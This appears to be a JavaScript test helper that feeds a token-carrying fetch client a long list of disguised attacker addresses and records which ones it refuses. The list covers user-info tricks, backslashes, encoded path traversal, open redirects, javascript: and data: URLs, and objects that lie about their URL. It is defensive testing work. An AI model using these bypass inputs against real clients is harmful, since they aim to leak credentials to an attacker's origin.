// Addresses that are no API's, said in every way that a script can say them. Whatever the client refuses is named by its code.

/**
 * Asks the page's client to call each, and gives back what came of it. `api` is a configured address, `evil` and
 * `plainEvil` are the attacker's origins.
 */
export async function tellLies({ api, evil, plainEvil }) {
  const { host, origin } = new URL(api)
  const evilHost = new URL(evil).host
  const lies = {
    'another origin': () => `${evil}/v1/orders`,
    'another origin, as a URL': () => new URL('/v1/orders', evil),
    'another origin, as a Request': () => new Request(`${evil}/v1/orders`),
    'without a scheme': () => `//${evilHost}/v1/orders`,
    'with backslashes': () => `\\\\${evilHost}\\v1\\orders`,
    'the API as a user name': () => `https://${host}@${evilHost}/v1/orders`,
    'the API as a user name, encoded': () => `https://${host.replace(':', '%3a')}@${evilHost}/v1/`,
    'a user name before the API': () => `https://${evilHost}@${host}/v1/orders`,
    'the API in the host name': () => `https://${host.split(':')[0]}.${evilHost}/v1/orders`,
    'the API in the fragment': () => `${evil}/#${api}`,
    'line breaks and tabs': () => `ht\ntps://ev\til.localhost${evilHost.replace(/^[^:]+/, '')}/v1/`,
    'dots out of the path': () => `${api}../redirect?to=${evil}/dots`,
    'encoded dots out of the path': () => `${api}%2e%2e/redirect?to=${evil}/encoded-dots`,
    'an encoded slash out of the path': () => `${api}..%2fredirect?to=${evil}/slash`,
    'an encoded slash twice': () => `${api}x/..%2f..%2fredirect?to=${evil}/slashes`,
    'an encoded backslash': () => `${api}..%5credirect?to=${evil}/backslash`,
    'a longer segment': () => `${origin}/v10/orders`,
    'the API without its path': () => `${origin}/orders`,
    'http: to the API': () => api.replace('https:', 'http:'),
    'http: to another host': () => `${plainEvil}/v1/orders`,
    'javascript:': () => `javascript:alert('${evil}')`,
    'data:': () => `data:text/plain,${evil}`,
    'a redirect of the API': () => `${api}redirect?to=${evil}/redirected`,
    'a redirect of the API, 307': () => `${api}redirect?status=307&to=${evil}/redirected`,
    'a redirect, to be followed': () => [
      `${api}redirect?to=${evil}/followed`,
      { redirect: 'follow' },
    ],
    'a redirect, in a Request': () =>
      new Request(`${api}redirect?to=${evil}/request`, { redirect: 'follow', mode: 'no-cors' }),
    'a Request that lies about its address': () =>
      Object.defineProperty(new Request(`${evil}/v1/lying-request`), 'url', { value: api }),
    'a Request of a class that lies': () => new (lyingClass(api))(`${evil}/v1/lying-class`),
    'a URL that lies': () => changing(new URL(`${evil}/v1/lying-url`), api),
    'an address that changes': () => changing({}, api, `${evil}/v1/changing`),
    'an address that changes later': () => changing({}, api, api, `${evil}/v1/changing-later`),
    'an address in the options': () => [
      api,
      optionsWith({ url: `${evil}/v1/options`, input: evil }),
    ],
  }
  const results = {}
  for (const [name, make] of Object.entries(lies)) {
    try {
      const made = make()
      const [input, init] = Array.isArray(made) ? made : [made, undefined]
      const answer = await window.lab.tokens.fetch(input, init)
      results[name] = `answered ${answer.status}`
    } catch (error) {
      results[name] = error.code ?? error.name
    }
  }
  return results
}

function lyingClass(api) {
  return class extends Request {
    get url() {
      return api
    }
  }
}

// Says one thing when asked first, and another one when asked again; the last answer stays.
function changing(object, ...answers) {
  const given = answers.length > 1 ? answers : [...answers, object.href]
  const next = () => (given.length > 1 ? given.shift() : given[0])
  return Object.assign(object, { toString: next, [Symbol.toPrimitive]: next })
}

function optionsWith(members) {
  return Object.create({ ...members, redirect: 'follow', mode: 'no-cors', method: 'POST' })
}
